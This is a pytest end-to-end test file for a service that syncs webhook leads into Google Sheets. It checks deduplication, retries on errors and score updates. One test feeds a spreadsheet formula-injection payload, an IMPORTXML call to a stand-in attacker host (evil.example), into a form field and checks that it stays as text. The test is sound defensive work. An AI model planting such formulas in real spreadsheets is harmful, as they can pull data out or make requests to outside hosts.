"""Webhook to sheet row, end to end: each lead exactly once, in seconds, whatever fails.

The daemon runs with the real gspread and google-auth against the Sheets
emulator, the Graph emulator sends signed webhooks (duplicated, shuffled).
"""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime

import pytest
import requests

from tests.daemon_harness import (
    DaemonThread,
    daemon_settings,
    sheet_rows,
    sheets_destination,
    wait_until,
)

QUESTIONS = ["full_name", "email", "phone_number", "job_title", "company_size", "interest"]


def lead(graph, form_id: str, n: int, title: str = "VP Sales", **extra) -> str:
    answers = {
        "full_name": f"Person {n}",
        "email": f"p{n}@acme.com",
        "phone_number": f"+4401234{n:05d}",
        "job_title": title,
        "company_size": "1,000+",
        "interest": "Book a demo",
        **extra,
    }
    return graph.create_lead(form_id, answers)


def all_landed(sheets, ids) -> bool:
    rows = sheet_rows(sheets)
    return {r["lead_id"] for r in rows} >= set(ids) and all(r.get("score") for r in rows)


def test_webhook_to_row_each_lead_once_under_duplicates(graph, sheets, tmp_path):
    form_id = graph.add_form("111", "Demo", QUESTIONS)
    dest = sheets_destination(sheets, tmp_path)
    settings = daemon_settings(
        graph, f"sqlite:///{tmp_path / 'l.db'}", pages=["111"], destinations=[dest]
    )
    ids = [lead(graph, form_id, n) for n in range(150)]
    with DaemonThread(settings) as running:
        graph.set_webhook_target(f"{running.url}/webhook")
        graph.send_webhook(ids, copies=3, shuffle=True, per_post=5).result(timeout=60)
        wait_until(lambda: all_landed(sheets, ids), 30, "150 rows")
        metrics = wait_until(lambda: _metric(running, "leads_delivered_total") >= 150, 10)
        assert metrics
        assert _metric(running, "lead_latency_seconds_count") >= 150
        assert _metric(running, "leads_ingested_total") == 150
    rows = sheet_rows(sheets)
    assert Counter(r["lead_id"] for r in rows) == Counter(ids)
    row = next(r for r in rows if r["lead_id"] == ids[7])
    assert row["phone_number"] == "+440123400007"  # text: leading + and zeros kept
    assert (row["score"], row["mql"], row["form_name"]) == ("70", "TRUE", "Demo")
    assert "VP title +20" in row["score_reasons"]
    # Far fewer write requests than leads: rows go in batches.
    assert len(sheets.requests(op="values.append")) < len(ids) / 10


@pytest.mark.parametrize(
    ("faults", "patience"),
    [
        pytest.param([(2, 500, False), (1, 503, True), (1, 502, False)], 30, id="5xx"),
        # A 429 means the minute's write quota is used up: the connector waits a whole window.
        pytest.param([(1, 429, False)], 100, id="429"),
    ],
)
def test_sheets_errors_delay_rows_and_lose_none(graph, sheets, tmp_path, faults, patience):
    form_id = graph.add_form("111", "Demo", QUESTIONS)
    dest = sheets_destination(sheets, tmp_path)
    settings = daemon_settings(
        graph, f"sqlite:///{tmp_path / 'l.db'}", pages=["111"], destinations=[dest]
    )
    with DaemonThread(settings) as running:
        graph.set_webhook_target(f"{running.url}/webhook")
        first = [lead(graph, form_id, n) for n in range(5)]
        graph.send_webhook(first).result(timeout=30)
        wait_until(lambda: all_landed(sheets, first), 30, "first rows")
        for count, status, after_apply in faults:  # after_apply: written, but the answer lost
            sheets.fail_next(count, status, kind="write", after_apply=after_apply)
        more = [lead(graph, form_id, n) for n in range(5, 60)]
        graph.send_webhook(more, copies=2, per_post=4).result(timeout=30)
        wait_until(lambda: all_landed(sheets, first + more), patience, "rows after the faults")
        # The rows may show before the daemon knows (a 503 that applied the append): the
        # destination reports itself healthy again once its own retry went through.
        wait_until(lambda: _destination_ok(running), patience, "destination status ok")
        assert _metric(running, "delivery_failures_total") >= 1
    assert Counter(r["lead_id"] for r in sheet_rows(sheets)) == Counter(first + more)


def test_score_update_lands_on_its_row_after_a_person_sorted_the_sheet(graph, sheets, tmp_path):
    form_id = graph.add_form("111", "Demo", QUESTIONS)
    dest = sheets_destination(sheets, tmp_path)
    settings = daemon_settings(
        graph, f"sqlite:///{tmp_path / 'l.db'}", pages=["111"], destinations=[dest]
    )
    with DaemonThread(settings) as running:
        graph.set_webhook_target(f"{running.url}/webhook")
        ids = [lead(graph, form_id, n, title="Director", interest="Case studies") for n in range(8)]
        graph.send_webhook(ids).result(timeout=30)
        wait_until(lambda: all_landed(sheets, ids), 30, "rows")
        sheets.add_column("sales", "Leads", "Status")
        sheets.sort_rows("sales", "Leads", "email", descending=True)
        target = ids[3]
        row_before = next(r for r in sheet_rows(sheets) if r["lead_id"] == target)
        assert row_before["mql"] == "FALSE"
        # Events of today: with a 30-day half-life a fixed date would lose points as the
        # calendar moves, and "+15" would become "+14".
        just_now = datetime.now(UTC).isoformat()
        event = {
            "id": "web-1",
            "lead_id": target,
            "type": "webinar_attended",
            "at": just_now,
        }
        more = {
            "id": "cs-1",
            "lead_id": target,
            "type": "case_study_downloaded",
            "at": just_now,
        }
        reply = requests.post(
            f"{running.url}/events", json=[event, more], timeout=10,
            headers={"Authorization": "Bearer events-secret"},
        )  # fmt: skip
        assert reply.status_code == 200 and reply.json()["stored"] == 2

        def flipped():
            return next(r for r in sheet_rows(sheets) if r["lead_id"] == target)["mql"] == "TRUE"

        wait_until(flipped, 30, "row flipped to MQL")
    rows = sheet_rows(sheets)
    assert Counter(r["lead_id"] for r in rows) == Counter(ids)
    updated = next(r for r in rows if r["lead_id"] == target)
    assert updated["email"] == row_before["email"]  # the right row, not a neighbour
    assert "Webinar attended +15" in updated["score_reasons"]
    assert all(r.get("Status", "") == "" for r in rows)  # people's own column untouched
    assert sum(r["mql"] == "TRUE" for r in rows) == 1


def test_formula_typed_into_a_form_stays_text(graph, sheets, tmp_path):
    form_id = graph.add_form("111", "Demo", QUESTIONS)
    dest = sheets_destination(sheets, tmp_path)
    settings = daemon_settings(
        graph, f"sqlite:///{tmp_path / 'l.db'}", pages=["111"], destinations=[dest]
    )
    with DaemonThread(settings) as running:
        graph.set_webhook_target(f"{running.url}/webhook")
        evil = lead(graph, form_id, 1, full_name='=IMPORTXML("http://evil.example","//a")')
        graph.send_webhook([evil]).result(timeout=30)
        wait_until(lambda: all_landed(sheets, [evil]), 30, "row")
    (row,) = sheet_rows(sheets)
    assert row["full_name"].startswith("=IMPORTXML")
    header = sheets.values("sales", "Leads")[0]
    column = chr(ord("A") + header.index("full_name"))
    assert not sheets.is_formula("sales", "Leads", f"{column}2")


def _destination_ok(running) -> bool:
    return any(s.service == "destination:sheet" and s.ok for s in running.store.statuses())


def _metric(running, name: str) -> float:
    """The sum of a leadsync_* metric's samples on /metrics (all label values)."""
    text = requests.get(f"{running.url}/metrics", timeout=5).text
    samples = [line for line in text.splitlines() if line.startswith(f"leadsync_{name}")]
    return sum(float(line.rsplit(" ", 1)[1]) for line in samples)
